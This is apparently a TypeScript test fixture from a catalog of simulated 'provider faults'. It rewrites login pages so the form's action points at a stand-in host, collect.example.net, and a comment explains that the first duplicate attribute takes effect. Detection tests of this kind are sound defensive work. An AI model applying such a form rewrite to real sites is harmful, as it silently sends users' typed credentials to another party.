import { inLoginPages } from '../../rewrite.ts';
import type { ProviderFaultFile } from './catalog.ts';
import { everywhere } from './where.ts';

export default {
  what: 'the login form stands where it stood, and sends what is typed to another host',
  where: everywhere,
  // Of two attributes of one name the first counts.
  handlers: inLoginPages((markup) =>
    markup.replace('<form ', '<form action="https://collect.example.net/login" '),
  ),
  drift: { class: 'login-changed' },
} satisfies ProviderFaultFile;
